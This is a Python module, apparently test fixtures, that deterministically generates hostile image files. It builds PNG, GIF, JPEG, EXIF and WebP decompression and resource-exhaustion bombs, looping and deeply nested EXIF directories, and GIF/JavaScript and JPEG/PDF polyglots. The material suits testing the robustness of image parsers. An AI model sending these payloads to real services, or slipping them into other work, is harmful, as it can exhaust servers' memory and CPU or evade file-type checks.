"""Pictures made to hurt their reader, byte by byte. Nothing is random and nothing depends on a library's version."""

import binascii
import struct

# ---- deflate --------------------------------------------------------------------------------------------------------


def zeros_deflated(count):
    """A zlib stream (RFC 1950) of `count` zero bytes, 1032 to one: a dynamic block (RFC 1951, 3.2.7) in which "repeat 258"
    and "from one back" are the single bit 0 each, so that its body is zeros as well."""
    bits = []

    def put(value, width):
        bits.extend(value >> i & 1 for i in range(width))

    for value, width in ((1, 1), (2, 2), (29, 5), (0, 5), (14, 4)):  # last; dynamic; 286 lengths, 1 distance, 18 code lengths
        put(value, width)
    for symbol in (16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1):
        put({18: 1, 1: 2, 2: 2}.get(symbol, 0), 3)
    two_bits, one_bit = (1, 1), (1, 0)  # how those code lengths are written; a run of zeros is 0 and seven bits
    bits.extend(two_bits)  # literal 0
    for run in (138, 117):
        put(0, 1)
        put(run - 11, 7)
    bits.extend(two_bits)  # end of block
    put(0, 1)
    put(28 - 11, 7)
    bits.extend(one_bit)  # length 258
    bits.extend(one_bit)  # distance 1
    repeats, rest = divmod(count - 1, 258)
    literal, end = (1, 0), (1, 1)
    head = bits + list(literal)
    tail = list(literal) * rest + list(end)
    packed = bytearray((len(head) + 2 * repeats + len(tail) + 7) // 8)
    for start, part in ((0, head), (len(head) + 2 * repeats, tail)):
        for i, bit in enumerate(part, start):
            packed[i // 8] |= bit << (i % 8)
    return b"\x78\xda" + bytes(packed) + struct.pack(">HH", count % 65521, 1)


def stored(data):
    """A zlib stream of stored blocks."""
    out, low, high = b"\x78\x01", 1, 0
    for at in range(0, len(data), 65535):
        block = data[at : at + 65535]
        out += struct.pack("<BHH", at + 65535 >= len(data), len(block), len(block) ^ 0xFFFF) + block
    for byte in data:
        low = (low + byte) % 65521
        high = (high + low) % 65521
    return out + struct.pack(">HH", high, low)


# ---- PNG ------------------------------------------------------------------------------------------------------------


def chunk(name, data, crc=None):
    body = name + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", binascii.crc32(body) if crc is None else crc)


def png(width, height, depth, colour, pixels, extra=b"", interlace=0, crc=None):
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, interlace)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + extra + chunk(b"IDAT", pixels, crc) + chunk(b"IEND", b"")


def grey_rows(width, height):
    return stored(b"".join(b"\0" + bytes((x * 5 + y * 3) % 256 for x in range(width)) for y in range(height)))


def adam7_bytes(side):
    """Of a one-bit grey square of a multiple of 8: each pass has its rows, each row its filter byte."""
    passes = ((8, 8), (8, 8), (4, 8), (4, 4), (2, 4), (2, 2), (1, 2))
    return sum(side // rows * (1 + (side // columns + 7) // 8) for columns, rows in passes)


def png_flat(side, interlace=0):
    """One-bit black, side by side: heavy when unpacked, light to send."""
    size = adam7_bytes(side) if interlace else side * (1 + (side + 7) // 8)
    return png(side, side, 1, 0, zeros_deflated(size), interlace=interlace)


def png_text_bomb(size):
    return png(32, 32, 8, 0, grey_rows(32, 32), chunk(b"zTXt", b"Comment\0\0" + zeros_deflated(size)))


def png_profile_bomb(size):
    return png(32, 32, 8, 0, grey_rows(32, 32), chunk(b"iCCP", b"profile\0\0" + zeros_deflated(size)))


# ---- GIF ------------------------------------------------------------------------------------------------------------


def gif(width, height, frames, frame_size=(1, 1)):
    """Frames of the least size that shows something: clear, black, end. A colour table of two."""
    out = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    for _ in range(frames):
        out += b"," + struct.pack("<HHHHB", 0, 0, *frame_size, 0) + b"\x02\x02\x44\x01\0"
    return out + b";"


def gif_header_bomb():
    """329 bytes that ask for 65535 x 65535 pixels: the table of 64 colours is most of it."""
    out = b"GIF89a" + struct.pack("<HHBBB", 65535, 65535, 0x85, 0, 0) + bytes(range(192))
    out += b"," + struct.pack("<HHHHB", 0, 0, 65535, 65535, 0) + b"\x06"
    body = 329 - len(out) - 3
    return out + bytes([body]) + b"\x40" * body + b"\0;"


def gif_script():
    """A GIF to one reader and a script to another: its width spells the start of a comment."""
    picture = b"GIF89a" + b"/*" + struct.pack("<HBBB", 4, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    picture += b"," + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\0;"
    return picture + b"*/=1;throw new Error('this is no script');\n"


# ---- JPEG -----------------------------------------------------------------------------------------------------------


def segment(marker, data):
    return bytes((0xFF, marker)) + struct.pack(">H", len(data) + 2) + data


def huffman(kind, symbol):
    """A table of one code, one bit long."""
    return segment(0xC4, bytes((kind, 1)) + bytes(15) + bytes((symbol,)))


def jpeg(width, height, extra=b"", claim=None):
    """Baseline, one component, even grey: one bit a coefficient list. claim: the size that the header says instead."""
    blocks = ((width + 7) // 8) * ((height + 7) // 8)
    shown = claim or (width, height)
    frame = struct.pack(">BHHB", 8, shown[1], shown[0], 1) + b"\x01\x11\0"
    out = b"\xff\xd8" + extra + segment(0xDB, b"\0" + b"\x10" * 64) + segment(0xC0, frame) + huffman(0x00, 0) + huffman(0x10, 0)
    return out + segment(0xDA, b"\x01\x01\0\0\x3f\0") + bytes((2 * blocks + 7) // 8) + b"\xff\xd9"


def jpeg_scans(side, scans):
    """Progressive: each scan says in a few bytes, by runs of 32767 empty blocks, that nothing changes in a large picture."""
    left, bits = (side // 8) ** 2, ""
    while left:
        run = min(left, 32767)
        power = run.bit_length() - 1
        if power < 14:  # the table knows runs of 2^14 and more only; the rest of the blocks stays unsaid
            break
        bits += "0" + format(run - (1 << power), "014b")
        left -= run
    bits += "1" * (-len(bits) % 8)
    data = int(bits, 2).to_bytes(len(bits) // 8, "big").replace(b"\xff", b"\xff\0")
    frame = struct.pack(">BHHB", 8, side, side, 1) + b"\x01\x11\0"
    out = b"\xff\xd8" + segment(0xDB, b"\0" + b"\x10" * 64) + segment(0xC2, frame) + huffman(0x10, 0xE0)
    return out + (segment(0xDA, b"\x01\x01\0\x01\x3f\0") + data) * scans + b"\xff\xd9"


def exif(tiff):
    return segment(0xE1, b"Exif\0\0" + tiff)


def looping_exif():
    """A directory whose next directory is itself, and whose camera directory is itself too."""
    entries = struct.pack("<HHII", 0x8769, 4, 1, 8) + struct.pack("<HHII", 0x8825, 4, 1, 8)
    return jpeg(64, 64, exif(b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", 2) + entries + struct.pack("<I", 8)))


def deep_exif(depth):
    """A chain of directories, each the camera directory of the one before, and values that claim four gigabytes."""
    out = b"II*\0" + struct.pack("<I", 8)
    for _ in range(depth):
        behind = len(out) + 2 + 24 + 4
        out += struct.pack("<H", 2) + struct.pack("<HHII", 0x010E, 2, 0xFFFFFFFF, 8) + struct.pack("<HHII", 0x8769, 4, 1, behind)
        out += struct.pack("<I", behind)
    return jpeg(64, 64, exif(out))


def pdf_jpeg():
    """A JPEG with a PDF's beginning in its comment and a PDF's end behind its own."""
    comment = segment(0xFE, b"\n%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\n")
    return jpeg(64, 64, comment) + b"\ntrailer << /Root 1 0 R >>\n%%EOF\n"


# ---- WebP -----------------------------------------------------------------------------------------------------------


def riff(form, body):
    return b"RIFF" + struct.pack("<I", len(body) + 4) + form + body


def riff_chunk(name, data):
    return name + struct.pack("<I", len(data)) + data + b"\0" * (len(data) % 2)


def pixel():
    """One opaque black pixel, VP8L: a signature, 28 bits of size, and five codes of one symbol each."""
    bits = "0" + "0" + "0"  # no transform, no cache, no groups of codes
    for length, symbol in ((1, 0), (1, 0), (1, 0), (8, 255), (1, 0)):
        bits += "1" + "0" + ("1" if length == 8 else "0") + "".join(str(symbol >> i & 1) for i in range(length))
    packed = int(bits[::-1], 2).to_bytes((len(bits) + 7) // 8, "little")
    return b"\x2f" + struct.pack("<I", 1 << 28) + packed


def three(value):
    return struct.pack("<I", value)[:3]


def webp(width, height, frames):
    """An animation of frames of one pixel on a canvas of any size."""
    frame = three(0) * 2 + three(0) * 2 + three(10) + b"\0" + riff_chunk(b"VP8L", pixel())
    head = b"\x12\0\0\0" + three(width - 1) + three(height - 1)
    return riff(b"WEBP", riff_chunk(b"VP8X", head) + riff_chunk(b"ANIM", bytes(6)) + riff_chunk(b"ANMF", frame) * frames)


def webp_claim(width, height):
    """Lossless data whose header claims so many pixels and ends there."""
    return riff(b"WEBP", riff_chunk(b"VP8L", b"\x2f" + struct.pack("<I", (width - 1) | (height - 1) << 14) + bytes(8)))
